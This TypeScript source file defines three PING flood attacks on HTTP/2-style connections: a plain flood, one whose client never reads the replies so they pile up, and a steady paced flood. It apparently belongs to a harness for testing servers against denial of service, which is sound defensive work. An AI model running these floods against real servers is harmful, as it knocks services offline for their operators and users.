import { type Attack, callHeaders, repeated } from "./attack.js";
import { frame, TYPE } from "./frames.js";

/** PINGs, each of which asks for an answer, from a client that reads them all. */
export const pingFlood: Attack = {
  name: "PING flood",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.flood(repeated(frame(TYPE.ping, 0, 0, Buffer.alloc(8)), 200), 200);
  },
};

/** The same from a client that reads nothing, so that the answers pile up. */
export const unreadPingFlood: Attack = {
  name: "PING flood, answers unread",
  connections: 2,
  async run(connection) {
    connection.stopReading();
    await pingFlood.run(connection);
  },
};

/** Never so many at once that answers pile up, but thousands a second. */
export const pacedPingFlood: Attack = {
  name: "PING flood, paced",
  connections: 2,
  async run(connection) {
    await connection.begin();
    await connection.write(callHeaders(1));
    const pings = repeated(frame(TYPE.ping, 0, 0, Buffer.alloc(8)), 50);
    while (connection.going) {
      await connection.write(pings, 50);
      await connection.wait(20);
    }
  },
};
